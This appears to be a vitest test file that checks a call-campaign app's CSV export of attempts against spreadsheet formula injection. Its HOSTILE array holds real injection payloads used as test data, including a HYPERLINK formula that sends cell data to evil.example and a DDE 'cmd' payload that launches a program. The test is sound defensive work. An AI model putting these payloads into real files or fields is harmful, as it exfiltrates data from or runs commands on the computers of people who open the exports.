import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../support/app.js';
import { ALL_DAY, createCampaign, magic, makeTemplate, waitSettled } from './helpers.js';

/**
 * The attempts export is opened in Excel by the people who asked for it: text that came from
 * outside (an integration's external ids, what a callee said) must never run there as a formula.
 */
let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => t?.stop());

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1,2)', '\t=1+2', '\r=1+2'];

describe('CSV export and formula injection', () => {
  it('every externally written cell that starts like a formula is exported as text; phones stay E.164', async () => {
    const templateId = await makeTemplate(t);
    const c = await createCampaign(t, templateId, { window: ALL_DAY, intensity: 50 });
    const items = HOSTILE.map((externalId, i) => ({ phone: magic(`000${i % 2 ? '7' : '4'}`, `+79007${String(i).padStart(2, '0')}`), externalId }));
    const added = await t.api<{ added: number }>('POST', `/campaigns/${c.id}/numbers/batch`, { items });
    expect(added.body.added).toBe(HOSTILE.length);
    // Six real sandbox calls: on a loaded 2-core machine they took longer than the helper's default 20 s.
    await waitSettled(t, c.id, { timeoutMs: 90_000 });
    for (const lang of ['en', 'ru']) {
      const res = await fetch(`${t.url}/api/v1/campaigns/${c.id}/attempts.csv?lang=${lang}`, { headers: { authorization: `Bearer ${t.token}` } });
      const rows = parse(Buffer.from(await res.arrayBuffer()).toString('utf8').replace(/^\uFEFF/, ''), { delimiter: lang === 'ru' ? ';' : ',' }) as string[][];
      const body = rows.slice(1);
      expect(body.length).toBeGreaterThanOrEqual(HOSTILE.length);
      // The external ids (trimmed by the API, so a leading tab or CR is gone) come back as text.
      expect(body.map((r) => r[2]).sort()).toEqual(HOSTILE.map((x) => `'${x.trim()}`).sort());
      for (const cell of body.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^(?:[\t\r]|\s*[=@]|\s*[+-](?!\d+$))/);
      for (const r of body) expect(r[1]).toMatch(/^\+7900\d{7}$/);
    }
  }, 120_000);
});
